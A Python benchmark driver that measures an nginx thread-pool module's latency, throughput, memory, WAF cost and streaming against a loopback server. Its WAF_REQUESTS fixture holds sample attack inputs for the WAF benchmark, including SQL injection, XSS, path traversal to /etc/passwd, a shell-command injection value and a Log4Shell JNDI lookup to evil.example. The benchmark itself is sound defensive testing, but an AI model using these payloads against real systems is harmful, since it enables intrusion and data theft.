#!/usr/bin/python3
"""make bench: push_task against inline Lua and ngx.run_worker_thread.

Starts Debian's nginx with bench/nginx.conf.tmpl (one worker, 2 for the
updates section; loopback only), runs nine sections and writes
bench/REPORT.md and bench/*.png
(through report.py); raw results go to bench/out/results.json.

  handoff     round trips of a trivial task, measured inside nginx, with
              a Lua pool, a Rust pool and run_worker_thread
  hol         head of line: static and light latency under heavy load
  policy      the same under each thread_pool_scheduling setting
  throughput  the sort handler's requests/s by concurrent connections
  memory      worker RSS by pool threads, idle and after many tasks
  waf         CPU per request of the WAF: Lua + PCRE (inline, in a pool)
              against the Rust WAF on the regex crate (in a pool)
  mechanisms  what the tests check only as behaviour: the event loop's
              poll for completions (its sleeps and the pool thread's
              eventfd writes per task), how soon a handler sees
              cancelled(), and at what cost, and what a push refused as
              "overloaded" costs the event loop
  stream      a 64 MiB output in 64 KiB chunks, streamed (push_stream)
              or whole: time to first byte, total time, the worker's
              peak RSS; MB/s and event-loop CPU per chunk against a
              push_task of the same size; how soon a waiting handler
              sees its caller let go; a Lua pool and a Rust pool
  updates     live updates in 2 workers at full load (run_updates.py):
              the time until every thread runs an update, the event
              loop's CPU per update, tasks failed meanwhile, the workers'
              RSS over many updates of a rule set

Every loop is bounded in count and time. QUICK=1 (or --quick) runs a
~1.5 minute smoke version; the full run takes ~17 minutes.
"""

import argparse
import contextlib
import json
import os
import socket
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

sys.dont_write_bytecode = True  # no __pycache__ beside the sources
import figures  # noqa: E402
import procs  # noqa: E402
import report  # noqa: E402
import rust_pool  # noqa: E402
import run_updates  # noqa: E402
from cells import (HANDOFF_C, HANDOFF_VARIANTS, LARGE_PAYLOADS, PAYLOADS,  # noqa: E402
                   SMALL_PAYLOADS, THROUGHPUT_C, VARIANTS, WAF_VARIANTS)
from cells import STREAM_CHUNK, STREAM_MIB, STREAM_MODES, STREAM_SIZES  # noqa: E402
from harness import (BENCH, OUT, REPO, WRK, Nginx, kib, log,  # noqa: E402
                     others_cpu_s, pool_threads_cpu_us, rss_kib, start_native,
                     WRK_SCRIPT, thread_count, thread_cpu_us, thread_writes, wrk_run,
                     wrk_start, wrk_wait)

WAF_FILES = (REPO / "nginx-conf/waf.lua", REPO / "nginx-conf/waf_rules.lua")
WRK_WAF_SCRIPT = BENCH / "wrk_waf.lua"

MEMORY_THREADS = (0, 1, 4, 16)
SECTIONS = ("handoff", "hol", "policy", "throughput", "memory", "waf", "mechanisms",
            "stream", "updates")
# The mechanisms section's sequential caller: tasks per run; and refused
# pushes per run (each run's must end before its pool's queue drains).
MECH_TASKS = 2000
MECH_REFUSALS = 20000
WAF_C = 8
# The WAF cell's requests, sent in turn: (method, path and query, headers,
# body); benign and malicious as in the test corpus (tests/waf_corpus/).
WAF_REQUESTS = [
    ("GET", "/products?category=shoes&size=42", {}, ""),
    ("GET", "/search?q=how+to+select+a+good+laptop", {}, ""),
    ("GET", "/search?q=Tom+%26+Jerry%27s+adventures", {"Accept-Language": "en-US,en;q=0.9"}, ""),
    ("GET", "/static/css/site.min.css?v=1.2.3", {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; "
                                                  "rv:109.0) Gecko/20100101 Firefox/115.0"}, ""),
    ("POST", "/login", {"Content-Type": "application/x-www-form-urlencoded"},
     "user=alice&password=S3cr3t%21pass"),
    ("POST", "/items", {"Content-Type": "application/json"},
     '{"name":"Widget","price":9.99,"tags":["a","b"]}'),
    ("POST", "/comments", {"Content-Type": "application/x-www-form-urlencoded"},
     "text=" + "Great+article%21+I+learned+a+lot+about+joins+and+select+statements.+" * 40),
    ("GET", "/item?q=1%27+OR+%271%27%3D%271", {}, ""),
    ("GET", "/item?id=1+UNION+SELECT+username%2C+password+FROM+users", {}, ""),
    ("GET", "/search?q=%3Cscript%3Ealert%281%29%3C%2Fscript%3E", {}, ""),
    ("GET", "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd", {}, ""),
    ("GET", "/ping?host=127.0.0.1%3B+cat+%2Fetc%2Fpasswd", {}, ""),
    ("GET", "/", {"User-Agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}, ""),
    ("GET", "/.git/config", {}, ""),
    ("GET", "/", {"X-Api-Version": "${jndi:ldap://evil.example/a}"}, ""),
]
# thread_pool_scheduling settings compared under the sort load.
POLICIES = ("normal nice=0", "normal nice=5", "normal nice=19", "batch nice=5", "idle")
SORT_N = 20000
# Query string of the WAF requests: a little of everything rules look at.
WAF_QUERY = ("user=alice&q=select+name+from+users+where+id%3D1&page=2"
             "&redirect=http%3A%2F%2Fexample.com%2F")

# Durations of the two modes (seconds unless named _ms).
PLANS = {
    "full": dict(handoff_rounds=5, handoff_ms=1000, warmup_ms=300,
                 hol_rounds=2, hol_secs=5, tput_rounds=2, tput_secs=5,
                 mem_tasks=100000, waf_rounds=3, waf_secs=5,
                 mech_rounds=3, mech_trials=20, stream_rounds=3, drain_mib=64,
                 upd_n=200, upd_cost=200, upd_cpu_rounds=3, upd_cpu_secs=5, upd_rss=1000),
    "quick": dict(handoff_rounds=1, handoff_ms=200, warmup_ms=100,
                  hol_rounds=1, hol_secs=1, tput_rounds=1, tput_secs=2,
                  mem_tasks=20000, waf_rounds=1, waf_secs=1,
                  mech_rounds=1, mech_trials=5, stream_rounds=1, drain_mib=8,
                  upd_n=30, upd_cost=50, upd_cpu_rounds=1, upd_cpu_secs=2, upd_rss=100),
}


def rotated(seq, k):
    k %= len(seq)
    return seq[k:] + seq[:k]


def merge_handoff(acc, r):
    """Adds one cell result (JSON from bench_handoff.lua, or cells merged
    before) into acc; a new acc if acc is None."""
    if acc is None:
        acc = dict(ok=0, failed=0, elapsed_ns=0, loop_cpu_us=0,
                   threads_cpu_us=0, errors={}, hist={},
                   buckets_per_octave=r["buckets_per_octave"])
    acc["ok"] += r["ok"]
    acc["failed"] += r["failed"]
    acc["elapsed_ns"] += r["elapsed_ns"]
    acc["loop_cpu_us"] += r["loop_cpu_us"]
    acc["threads_cpu_us"] += r["threads_cpu_us"]
    for k, n in r["errors"].items():
        acc["errors"][k] = acc["errors"].get(k, 0) + n
    # bench_handoff.lua's [bucket, count] pairs ({} when empty), or merged
    for b, n in (r["hist"].items() if isinstance(r["hist"], dict) else r["hist"]):
        acc["hist"][str(b)] = acc["hist"].get(str(b), 0) + n
    return acc


def handoff_cell(ng, variant, c, payload, ms, max_count=10_000_000):
    """One /handoff request, plus the pool threads' CPU time during it and
    the cores other processes took meanwhile, as a cell of one round
    (merge_handoff)."""
    path = (f"/handoff?variant={variant}&c={c}&payload={payload}"
            f"&ms={ms}&max={max_count}")
    cpu0, others0, t0 = pool_threads_cpu_us(ng.worker), others_cpu_s(ng.worker), time.monotonic()
    r = ng.get_json(path, timeout=ms / 1000 + 60)
    r["threads_cpu_us"] = pool_threads_cpu_us(ng.worker) - cpu0
    cell = merge_handoff(None, r)
    cell["others_cores"] = (others_cpu_s(ng.worker) - others0) / (time.monotonic() - t0)
    return cell


def handoff_variants(payload):
    """The variants of a hand-off cell with this payload."""
    return HANDOFF_VARIANTS + (("tpc",) if payload in LARGE_PAYLOADS else ()) \
        + (("tpp",) if payload in SMALL_PAYLOADS else ()) \
        + ((rust_pool.VARIANT,) if payload in rust_pool.PAYLOADS else ())


def handoff_groups():
    """The hand-off cells (variant, C, payload) of one round in their
    order, by C and payload; the variants of a payload are one group,
    which rounds rotate. Then the sequential round trip's payloads that
    are not in PAYLOADS, at C = 1."""
    return [[(v, c, p) for v in handoff_variants(p)]
            for c in HANDOFF_C for p in PAYLOADS] \
        + [[(v, 1, p) for v in rust_pool.SEQUENTIAL_VARIANTS]
           for p in rust_pool.SEQUENTIAL_PAYLOADS if p not in PAYLOADS]


@contextlib.contextmanager
def handoff_nginx(name, cells, skipped=None, **kw):
    """One nginx for each variant of the hand-off cells (variant, C,
    payload), NAME-VARIANT by name (extra Nginx arguments in kw), so that
    each variant runs in a LuaJIT state of its own. In a shared one, what a
    variant's calls did to the traces stayed for the next: post_task took
    1.15 µs of event-loop CPU per call after a push_tasks cell, 0.26 µs
    before, and flushing the traces did not undo it (LuaJIT had blacklisted
    the code). The Rust pool's nginx alone has that pool; without it (see
    start_native) its variant is left out, and why goes to `skipped`."""
    variants = dict.fromkeys(v for v, _, _ in cells)
    with contextlib.ExitStack() as stack:
        ngs = {}
        for v in variants:
            if v != rust_pool.VARIANT:
                ngs[v] = stack.enter_context(Nginx(f"{name}-{v}", copying_pool=True, **kw))
                continue
            ng, why = start_native(stack, f"{name}-{v}", rust_pool.POOL,
                                   copying_pool=True, **kw)
            if ng:
                ngs[v] = ng
            else:
                log(f"{name}: variant {v} left out: {why}")
                if skipped is not None:
                    skipped[v] = why
        yield ngs


def section_handoff(plan, res):
    # Every cell's rounds together (counts, histogram), and each round's
    # figures apart, for medians and spread.
    cells, rounds, skipped = {}, {}, {}
    groups = handoff_groups()
    with handoff_nginx("handoff", [cell for group in groups for cell in group],
                       skipped) as ngs:
        groups = [[cell for cell in group if cell[0] in ngs] for group in groups]
        # JIT the loops, create run_worker_thread's VMs (one per task in
        # flight) and load the modules in every VM before measuring.
        for p in ("16", "65536", "table"):
            for v in handoff_variants(p):
                if v in ngs:
                    handoff_cell(ngs[v], v, 64, p, plan["warmup_ms"])
        for rnd in range(plan["handoff_rounds"]):
            log(f"handoff round {rnd + 1}/{plan['handoff_rounds']}")
            for i, group in enumerate(groups):
                for v, c, p in rotated(group, rnd + i):
                    key = f"{v}|{c}|{p}"
                    r = handoff_cell(ngs[v], v, c, p, plan["handoff_ms"])
                    cells[key] = merge_handoff(cells.get(key), r)
                    rounds.setdefault(key, []).append(figures.per_task(r))
        # Past run_worker_thread's VM pool (100): what C=128 does.
        probe = {}
        for v in ("rwt", "tp"):
            probe[v] = handoff_cell(ngs[v], v, 128, "16", plan["handoff_ms"])
        res["handoff"] = dict(cells=cells, rounds=rounds, probe128=probe, skipped=skipped,
                              alive=all(ng.alive() for ng in ngs.values()))
    res["handoff"]["log"] = [line for ng in ngs.values() for line in ng.problems()]


def heavy_url(ng, workload, variant):
    query = f"n={SORT_N}" if workload == "sort" else WAF_QUERY
    return ng.url(f"/{workload}/{variant}?{query}")


def section_hol(plan, res, workloads):
    secs = plan["hol_secs"]
    runs = {}

    def add(key, r):
        runs.setdefault(key, []).append(r)

    # The baseline before and after each round: one noisy sample is not
    # enough to divide by.
    def unloaded():
        for target in ("static", "light"):
            add(f"unloaded|{target}", wrk_run(ng.url(f"/{target}"), 4, secs))

    with Nginx("hol") as ng:
        for w in workloads:
            for v in VARIANTS:
                wrk_run(heavy_url(ng, w, v), 8, 1)
        ng.errors()
        for rnd in range(plan["hol_rounds"]):
            log(f"head-of-line round {rnd + 1}/{plan['hol_rounds']}")
            unloaded()
            for w in workloads:
                for v in rotated(VARIANTS, rnd):
                    for target in ("static", "light"):
                        heavy = wrk_start(heavy_url(ng, w, v), 8, secs + 1)
                        time.sleep(0.5)
                        add(f"{w}|{v}|{target}",
                            wrk_run(ng.url(f"/{target}"), 4, secs))
                        add(f"{w}|{v}|{target}|heavy", wrk_wait(heavy, secs + 1))
            unloaded()
        errors = ng.errors()
        alive = ng.alive()
    res["hol"] = dict(runs=runs, errors=errors, alive=alive,
                      workloads=list(workloads), log=ng.problems())


def section_policy(plan, res):
    """Static p99 while the sort runs in push_task, by the pool threads'
    scheduling (one nginx per setting, settings alternating by round), and
    the sort's own requests/s."""
    secs = plan["hol_secs"]
    runs = {}
    for rnd in range(plan["hol_rounds"]):
        log(f"policy round {rnd + 1}/{plan['hol_rounds']}")
        for pol in rotated(list(POLICIES), rnd):
            with Nginx("policy", scheduling=pol) as ng:
                wrk_run(heavy_url(ng, "sort", "tp"), 8, 1)
                runs.setdefault(f"{pol}|unloaded", []).append(
                    wrk_run(ng.url("/static"), 4, secs))
                heavy = wrk_start(heavy_url(ng, "sort", "tp"), 8, secs + 1)
                time.sleep(0.5)
                runs.setdefault(f"{pol}|static", []).append(
                    wrk_run(ng.url("/static"), 4, secs))
                runs.setdefault(f"{pol}|heavy", []).append(wrk_wait(heavy, secs + 1))
    res["policy"] = dict(runs=runs, policies=list(POLICIES))


def section_throughput(plan, res):
    secs = plan["tput_secs"]
    runs, errors = {}, {}
    with Nginx("throughput") as ng:
        for v in VARIANTS:
            wrk_run(heavy_url(ng, "sort", v), 8, 1)
        ng.errors()
        for rnd in range(plan["tput_rounds"]):
            log(f"throughput round {rnd + 1}/{plan['tput_rounds']}")
            for i, c in enumerate(THROUGHPUT_C):
                for v in rotated(VARIANTS, rnd + i):
                    key = f"{v}|{c}"
                    runs.setdefault(key, []).append(
                        wrk_run(heavy_url(ng, "sort", v), c, secs))
                    for k, n in ng.errors().items():
                        e = errors.setdefault(key, {})
                        e[k] = e.get(k, 0) + n
        alive = ng.alive()
    res["throughput"] = dict(runs=runs, errors=errors, alive=alive,
                             log=ng.problems())


def settle(pid, secs=0.5):
    """Waits until the worker's thread count and RSS stop moving (pool
    threads build their Lua states after start), at most 5 s."""
    deadline = time.monotonic() + 5
    last = None
    while time.monotonic() < deadline:
        now = (thread_count(pid), rss_kib(pid))
        if now == last:
            return
        last = now
        time.sleep(secs)


def section_memory(plan, res):
    tasks = plan["mem_tasks"]
    rows = []
    logs = {}
    configs = [("none", 0, 0)]
    for n in MEMORY_THREADS[1:]:
        configs += [("tp", n, 0), ("rwt", 0, n)]
    for kind, tp_threads, rwt_threads in configs:
        name = f"memory-{kind}-{tp_threads or rwt_threads}"
        with Nginx(name, tp_threads=tp_threads, rwt_threads=rwt_threads) as ng:
            settle(ng.worker)
            idle = rss_kib(ng.worker)
            threads_idle = thread_count(ng.worker)
            # Without a pool the same loop runs inline: the event loop's
            # own garbage is in every row's "after".
            variant = {"none": "inline"}.get(kind, kind)
            r = handoff_cell(ng, variant, 8, "1024", 120000, tasks)
            settle(ng.worker)
            rows.append(dict(kind=kind, threads=tp_threads or rwt_threads,
                             rss_idle_kib=idle, threads_idle=threads_idle,
                             rss_after_kib=rss_kib(ng.worker),
                             threads_after=thread_count(ng.worker),
                             tasks=r["ok"], failed=r["failed"],
                             errors=r["errors"], alive=ng.alive()))
        logs[name] = ng.problems()
    res["memory"] = dict(rows=rows, tasks=tasks, log=logs)


def lua_string(s):
    return '"' + s.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def write_waf_requests(path, variant):
    """WAF_REQUESTS to /wafcpu/VARIANT/, as the Lua file wrk_waf.lua reads."""
    lines = ["return {"]
    for method, target, headers, body in WAF_REQUESTS:
        h = ", ".join(f"[{lua_string(k)}] = {lua_string(v)}" for k, v in headers.items())
        lines.append(f"  {{ {lua_string(method)}, {lua_string(f'/wafcpu/{variant}' + target)}, "
                     f"{{ {h} }}, {lua_string(body) if body else 'nil'} }},")
    path.write_text("\n".join(lines + ["}"]) + "\n")


def waf_cell(ng, variant, secs):
    """wrk on the WAF requests for `variant` (WAF_C connections), with the
    worker's CPU time per request: its main thread (the event loop) and
    its other threads (the pools), from schedstat."""
    requests = OUT / f"waf_requests_{variant}.lua"
    write_waf_requests(requests, variant)
    pid = ng.worker
    loop0, threads0 = thread_cpu_us(pid, pid), pool_threads_cpu_us(pid)
    r = wrk_wait(wrk_start(ng.url("/"), WAF_C, secs, WRK_WAF_SCRIPT,
                           {"BENCH_WRK_JSON": str(WRK_SCRIPT),
                            "BENCH_WAF_REQUESTS": str(requests)}), secs)
    n = r["requests"] or 1
    r["loop_us"] = (thread_cpu_us(pid, pid) - loop0) / n
    r["threads_us"] = (pool_threads_cpu_us(pid) - threads0) / n
    return r


def section_waf(plan, res):
    """CPU per request of the WAF variants (WAF_VARIANTS), rounds
    alternating. The Lua variants share one nginx; the Rust WAF runs in
    one of its own, skipped (with the reason in the report) when its
    library is not built or the module has no thread_pool_process_by_rust."""
    secs = plan["waf_secs"]
    runs, skipped = {}, {}
    with contextlib.ExitStack() as stack:
        ngs = {}
        lua = stack.enter_context(Nginx("waf-lua", rwt_threads=0, pools=("waf_lua",)))
        for v in ("none", "inline", "tp"):
            ngs[v] = lua
        ng, why = start_native(stack, "waf-rust", "waf_rust", rwt_threads=0)
        if ng:
            ngs["rust"] = ng
        else:
            skipped["rust"] = why
        for v in skipped:
            log(f"waf: variant {v} skipped: {skipped[v]}")
        variants = [v for v in WAF_VARIANTS if v in ngs]
        for v in variants:
            waf_cell(ngs[v], v, 1)
        for ng in set(ngs.values()):
            ng.errors()
        for rnd in range(plan["waf_rounds"]):
            log(f"waf round {rnd + 1}/{plan['waf_rounds']}")
            for v in rotated(variants, rnd):
                runs.setdefault(v, []).append(waf_cell(ngs[v], v, secs))
        errors = {}
        for ng in set(ngs.values()):
            for k, n in ng.errors().items():
                errors[k] = errors.get(k, 0) + n
        alive = all(ng.alive() for ng in ngs.values())
    res["waf"] = dict(runs=runs, skipped=skipped, errors=errors, alive=alive,
                      requests=len(WAF_REQUESTS), connections=WAF_C,
                      log=[line for ng in set(ngs.values()) for line in ng.problems()])


def section_mechanisms(plan, res):
    """The event loop's poll for completions (src/handoff/notify.rs) and
    cooperative cancellation (tests/cancel.rs), on a pool of one thread:
    figures that depend on the machine's load, so no test asserts them."""
    with Nginx("mechanisms", tp_threads=1, rwt_threads=0, pools=("mech",)) as ng:
        # First: the run estimate the refusals need is the pool's first
        # measure, not an average with the trivial tasks' below.
        refuse = [ng.get_json(f"/mech/refuse?n={MECH_REFUSALS}", timeout=120)
                  for _ in range(plan["mech_rounds"])]
        poll = []
        for _ in range(plan["mech_rounds"]):
            before = thread_writes(ng.worker, "tp mech")
            others0, t0 = others_cpu_s(ng.worker), time.monotonic()
            r = ng.get_json(f"/mech/poll?n={MECH_TASKS}", timeout=120)
            r["writes"] = thread_writes(ng.worker, "tp mech") - before
            r["others_cores"] = (others_cpu_s(ng.worker) - others0) / (time.monotonic() - t0)
            poll.append(r)
        cancel = ng.get_json(f"/mech/cancel?trials={plan['mech_trials']}", timeout=600)
        cost = ng.get_json("/mech/cost?n=10000000", timeout=120)
        res["mechanisms"] = dict(tasks=MECH_TASKS, poll=poll, cancel=cancel, cost=cost,
                                 refuse=refuse, alive=ng.alive(), log=ng.problems())


def timed_get(port, path, timeout=300):
    """GET path over a new connection, read to its end: seconds to the
    first byte of the response and to its last, and the bytes read."""
    buf = bytearray(1 << 20)
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as sock:
        t0 = time.monotonic()
        sock.sendall(f"GET {path} HTTP/1.1\r\nHost: bench\r\n"
                     "Connection: close\r\n\r\n".encode())
        first, total = None, 0
        while True:
            n = sock.recv_into(buf)
            if not n:
                break
            if first is None:
                first = time.monotonic() - t0
                if not buf.startswith(b"HTTP/1.1 200 "):
                    raise RuntimeError(f"{path}: {bytes(buf[:n]).splitlines()[0]!r}")
            total += n
    return first, time.monotonic() - t0, total


def stream_nginx(stack, name, pool):
    """An nginx for the stream section's POOL (stream_lua, or the Rust pool
    rust_pool.POOL), entered in stack; None and why not for a Rust pool
    whose library is missing."""
    if pool != rust_pool.POOL:
        return stack.enter_context(Nginx(name, rwt_threads=0, pools=(pool,))), None
    return start_native(stack, name, pool, rwt_threads=0)


def section_stream(plan, res):
    """A STREAM_MIB output in STREAM_CHUNK chunks over HTTP, streamed or
    whole (every chunk read first), on a fresh nginx per cell so that the
    worker's peak RSS (VmHWM) is the cell's own; then, inside nginx, one
    stream's chunks read against push_tasks of each chunk size one after
    another: MB/s and the event loop's CPU per chunk; and how soon a
    handler waiting in send or receive sees its caller let go. Pools and
    modes alternate by round."""
    n = STREAM_MIB * 1024 * 1024 // STREAM_CHUNK
    pools = ("stream_lua", rust_pool.POOL)
    http, drain, cancel, skipped, logs, alive = {}, {}, {}, {}, [], True
    for rnd in range(plan["stream_rounds"]):
        log(f"stream round {rnd + 1}/{plan['stream_rounds']}")
        for pool in rotated(list(pools), rnd):
            if pool in skipped:
                continue
            for mode in rotated(list(STREAM_MODES), rnd):
                with contextlib.ExitStack() as stack:
                    ng, why = stream_nginx(stack, f"stream-{pool}-{mode}", pool)
                    if not ng:
                        log(f"stream: pool {pool} left out: {why}")
                        skipped[pool] = why
                        break
                    settle(ng.worker)
                    before = rss_kib(ng.worker)
                    ttfb, total, nbytes = timed_get(
                        ng.port, f"/stream/http?pool={pool}&mode={mode}&n={n}"
                        f"&size={STREAM_CHUNK}")
                    http.setdefault(f"{pool}|{mode}", []).append(dict(
                        ttfb_ms=ttfb * 1000, total_ms=total * 1000, bytes=nbytes,
                        rss_before_kib=before,
                        rss_peak_kib=kib(f"/proc/{ng.worker}/status", "VmHWM")))
                    alive = alive and ng.alive()
                logs += ng.problems()
    with contextlib.ExitStack() as stack:
        ngs = {}
        for pool in pools:
            if pool not in skipped:
                ngs[pool] = stream_nginx(stack, f"stream-drain-{pool}", pool)[0]
        cells = [(pool, mode, size) for pool in ngs for size in STREAM_SIZES
                 for mode in ("stream", "task")]
        mib = plan["drain_mib"]
        for rnd in range(plan["stream_rounds"] + 1):
            for pool, mode, size in rotated(cells, rnd):
                count = mib * 1024 * 1024 // size
                r = ngs[pool].get_json(f"/stream/drain?pool={pool}&mode={mode}"
                                       f"&n={count}&size={size}", timeout=300)
                # round 0 warms the JIT and the pools' states up
                if rnd:
                    drain.setdefault(f"{pool}|{mode}|{size}", []).append(r)
        for rnd in range(plan["stream_rounds"]):
            for pool, how in rotated([(p, h) for p in ngs for h in ("close", "timeout")], rnd):
                r = ngs[pool].get_json(f"/stream/cancel?pool={pool}&how={how}"
                                       f"&trials={plan['mech_trials']}", timeout=300)
                c = cancel.setdefault(f"{pool}|{how}", dict(late_us=[], missed=0))
                c["late_us"] += r["late_us"]
                c["missed"] += r["missed"]
        alive = alive and all(ng.alive() for ng in ngs.values())
    logs += [line for ng in ngs.values() for line in ng.problems()]
    res["stream"] = dict(mib=STREAM_MIB, chunk=STREAM_CHUNK, drain_mib=plan["drain_mib"],
                         http=http, drain=drain, cancel=cancel, skipped=skipped,
                         alive=alive, log=logs)


def machine():
    return dict(procs.machine(procs.NGINX, rustc=["rustc", "--version"], wrk=[WRK, "-v"]),
                mem_total_kib=kib("/proc/meminfo", "MemTotal"))


def loadavg():
    return Path("/proc/loadavg").read_text().split()[:3]


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--quick", action="store_true",
                    default=os.environ.get("QUICK", "") not in ("", "0"),
                    help="~1 minute smoke run (also QUICK=1)")
    ap.add_argument("--sections", default=os.environ.get("BENCH_SECTIONS", ",".join(SECTIONS)),
                    help="comma-separated subset of " + ",".join(SECTIONS))
    ap.add_argument("--results", type=Path,
                    help="write the results here and no report: another release's "
                    "run, which REPORT.md shows as a section of its own (make bench-trixie)")
    ap.add_argument("--splice", action="store_true",
                    help="put the sections run into the REPORT.md there is, in place of "
                    "theirs, and leave the rest of it; results in out/results-SECTIONS.json "
                    "(sections: " + ",".join(report.SPLICED) + ")")
    args = ap.parse_args()
    sections = [s for s in args.sections.split(",") if s]
    unknown = set(sections) - set(SECTIONS)
    if unknown:
        ap.error(f"unknown sections: {', '.join(sorted(unknown))}")
    if args.splice and set(sections) - set(report.SPLICED):
        ap.error(f"--splice takes only {', '.join(report.SPLICED)}")
    if not procs.MODULE.exists():
        sys.exit(f"{procs.MODULE} missing: run `make build` first")

    mode = "quick" if args.quick else "full"
    plan = PLANS[mode]
    workloads = ["sort"] + (["waf"] if all(f.exists() for f in WAF_FILES) else [])
    OUT.mkdir(exist_ok=True)
    res = dict(mode=mode, plan=plan, sections=sections, workloads=workloads,
               sort_n=SORT_N, waf_query=WAF_QUERY, machine=machine(),
               loadavg_start=loadavg(), started=time.strftime("%Y-%m-%d %H:%M:%S %z"))
    t0 = time.monotonic()
    log(f"{mode} run: {', '.join(sections)}; workloads {', '.join(workloads)}; "
        f"load average {' '.join(res['loadavg_start'])}")
    steps = dict(handoff=lambda: section_handoff(plan, res),
                 hol=lambda: section_hol(plan, res, workloads),
                 policy=lambda: section_policy(plan, res),
                 throughput=lambda: section_throughput(plan, res),
                 memory=lambda: section_memory(plan, res),
                 waf=lambda: section_waf(plan, res),
                 mechanisms=lambda: section_mechanisms(plan, res),
                 stream=lambda: section_stream(plan, res),
                 updates=lambda: run_updates.section_updates(plan, res))
    failed = False
    for s in sections:
        log(f"section {s}")
        try:
            steps[s]()
        except (RuntimeError, OSError, KeyError, ValueError,
                urllib.error.URLError) as e:
            # Report what broke (a hang, a crash) and go on with the rest.
            log(f"section {s} failed: {e}")
            res.setdefault("failures", {})[s] = dict(
                error=str(e), log=Nginx.last.problems() if Nginx.last else [])
            failed = True
    res["nginx_info"] = Nginx.last.info if Nginx.last else {}
    res["loadavg_end"] = loadavg()
    res["seconds"] = round(time.monotonic() - t0, 1)
    if args.results:
        args.results.write_text(json.dumps(res, indent=1))
        log(f"done in {res['seconds']} s: {args.results}")
        return 1 if failed else 0
    if args.splice:
        out = OUT / f"results-{'-'.join(sections)}.json"
        out.write_text(json.dumps(res, indent=1))
        report.splice(res, BENCH)
        log(f"done in {res['seconds']} s: {out}, spliced into {BENCH / 'REPORT.md'}")
        return 1 if failed else 0
    (OUT / "results.json").write_text(json.dumps(res, indent=1))
    report.render(res, BENCH)
    log(f"done in {res['seconds']} s: {BENCH / 'REPORT.md'}")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
